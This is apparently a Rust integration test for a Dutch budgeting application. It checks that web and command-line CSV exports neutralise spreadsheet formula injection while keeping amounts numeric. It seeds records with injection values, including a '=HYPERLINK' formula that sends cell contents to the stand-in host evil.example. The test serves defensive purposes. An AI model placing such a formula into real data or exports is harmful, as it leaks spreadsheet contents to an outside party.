//! Every CSV export is safe to open in a spreadsheet: text that would start a formula (`=`, `+`, `-`, `@`, tab,
//! carriage return) gets a leading `'`, while amounts stay numbers (`-500.00`). The web routes are found by
//! walking the route table, the command line's CSV outputs are listed by hand.

use std::process::Command;

use reqwest::StatusCode;
use taalbudget::auth::roles::Role;
use taalbudget::web;

use crate::helpers::{certified_provider, id_from, import_ledger, ledger_line, location, spawn_app, TestApp};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")";

/// A provider, contract, stream, budget line, ledger line and creditor link whose names would run as formulas,
/// and spend of € 1.500,00 against € 1.000,00 available in 2023, so the stream's remaining amount is -500.00.
async fn hostile_data(app: &TestApp) {
    app.login_as(Role::Admin).await;
    let provider = certified_provider(app, HYPERLINK, "12345678").await.to_string();
    let r = app
        .post_form(
            "/contracten",
            &[
                ("reference", "@UTR-1"),
                ("title", "+31 perceel"),
                ("provider_id", &provider),
                ("routes", "b1"),
                ("start_date", "2022-01-01"),
                ("initial_end_date", "2025-12-31"),
                ("ceiling", "100.000,00"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap());
    let contract = id_from(&location(&r), "/contracten/").to_string();
    let r = app
        .post_form(
            "/financiering",
            &[("code", "-spuk"), ("name", "=1+2"), ("kind", "specific_grant"), ("spend_from", "2022-01-01")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap());
    let stream = id_from(&location(&r), "/financiering/").to_string();
    let r = app
        .post_form(
            &format!("/financiering/{stream}/toekenningen"),
            &[
                ("year", "2023"),
                ("kind", "advance"),
                ("amount", "1.000,00"),
                ("reference", "Beschikking"),
                ("decided_on", "2023-01-15"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap());
    let r = app
        .post_form(
            &format!("/financiering/{stream}/begrotingsposten"),
            &[("category", "@begroting"), ("year", "2023"), ("amount", "100,00")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap());
    import_ledger(app, &[ledger_line("2023-03-01", "KP1", "=1+2", "=1+2", 150_000)]).await;
    let line: i64 = sqlx::query_scalar("SELECT id FROM ledger_entry").fetch_one(&app.db).await.unwrap();
    let r = app
        .post_form(
            &format!("/grootboek/{line}/toerekenen"),
            &[("stream_id", &stream), ("contract_id", &contract), ("reason", "-handmatig")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap());
    let r = app.post_form("/toerekening/crediteuren", &[("creditor_number", "=1+2"), ("provider_id", &provider)]).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
}

/// The rows of a CSV export (BOM removed), after checking that no cell would run as a formula: a cell that
/// starts like one must be a number.
fn safe_rows(what: &str, bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap_or_else(|| panic!("{what}: UTF-8 with a BOM"));
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    for cell in rows.iter().flatten() {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(cell.parse::<rust_decimal::Decimal>().is_ok(), "{what}: the cell {cell:?} would run as a formula");
        }
    }
    rows
}

fn row_with<'a>(rows: &'a [Vec<String>], what: &str, cells: &[(usize, &str)]) -> &'a [String] {
    rows.iter()
        .find(|r| cells.iter().all(|(i, v)| r.get(*i).map(String::as_str) == Some(*v)))
        .unwrap_or_else(|| panic!("{what}: no row with {cells:?} in {rows:?}"))
}

#[tokio::test]
async fn every_csv_route_neutralises_formulas_and_keeps_amounts_numbers() {
    let app = spawn_app().await;
    hostile_data(&app).await;

    // Every GET route, its parameters filled in: the ones that answer CSV are the exports to check.
    let mut found = Vec::new();
    for e in web::routes().entries().iter().filter(|e| e.method == reqwest::Method::GET) {
        let mut path = e.path.to_string();
        while let (Some(a), Some(b)) = (path.find('{'), path.find('}')) {
            path.replace_range(a..=b, if path[a..b].contains("entity") { "provider" } else { "1" });
        }
        let r = app.get(&format!("{path}?van=2022&tot=2024")).await;
        let csv = r.headers().get("content-type").is_some_and(|v| v.to_str().unwrap().starts_with("text/csv"));
        if csv {
            assert_eq!(r.status(), StatusCode::OK, "{path}");
            found.push((e.path, r.bytes().await.unwrap()));
        }
    }
    let paths: Vec<&str> = found.iter().map(|(p, _)| *p).collect();
    assert_eq!(paths, ["/beheer/audit.csv", "/meerjarenoverzicht/export.csv"], "the CSV routes");

    let audit = safe_rows("auditlog", &found[0].1);
    assert_eq!(audit[0], ["id", "at", "actor", "action", "entity", "entity_id", "before", "after"]);
    row_with(&audit, "auditlog", &[(3, "link"), (4, "creditor"), (5, "'=1+2")]);

    let overview = safe_rows("meerjarenoverzicht", &found[1].1);
    // The provider's name as text, not a link; the stream's code and name; the contract's reference and title.
    let provider = row_with(&overview, "per aanbieder", &[(0, "provider"), (2, &format!("'{HYPERLINK}")), (3, "2023")]);
    assert_eq!(provider[5], "1500.00", "actual of the provider in 2023");
    let stream = row_with(&overview, "per bron", &[(0, "stream"), (1, "'-SPUK"), (2, "'-SPUK =1+2"), (3, "2023")]);
    assert_eq!((stream[4].as_str(), stream[5].as_str(), stream[8].as_str()), ("1000.00", "1500.00", "-500.00"));
    row_with(&overview, "per contract", &[(0, "contract"), (1, "'@UTR-1"), (2, "'@UTR-1 +31 perceel"), (3, "2023")]);

    // The command line's CSV outputs on the same data.
    let cli = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_taalbudget"))
            .arg("--db")
            .arg(&app.db_path)
            .env("TAALBUDGET_LOG", "error")
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        out.stdout
    };
    let rec = safe_rows("aansluiting", &cli(&["report", "reconciliation", "--year", "2023", "--format", "csv"]));
    let stream = row_with(&rec, "aansluiting", &[(1, "'-SPUK"), (2, "'=1+2"), (3, "")]);
    assert_eq!(stream[4..], ["1000.00", "1500.00", "0.00", "-500.00", "0.00", "0.00"]);
    let line = row_with(&rec, "aansluiting", &[(1, "'-SPUK"), (3, "'@begroting")]);
    assert_eq!(line[4..], ["100.00", "0.00", "", "", "", ""]);
    let ov = safe_rows("overzicht", &cli(&["report", "overview", "--from", "2022", "--to", "2024", "--format", "csv"]));
    assert_eq!(ov, overview, "the command line writes the same file as the web");

    // The ready-to-fill CSV of a CSV template (no BOM there: it is in the template's own encoding).
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("leeg.csv");
    cli(&["templates", "example", "grootboek-csv-1252", "--out", file.to_str().unwrap()]);
    let mut bom = "\u{feff}".as_bytes().to_vec();
    bom.extend(std::fs::read(&file).unwrap());
    safe_rows("voorbeeld", &bom);
}
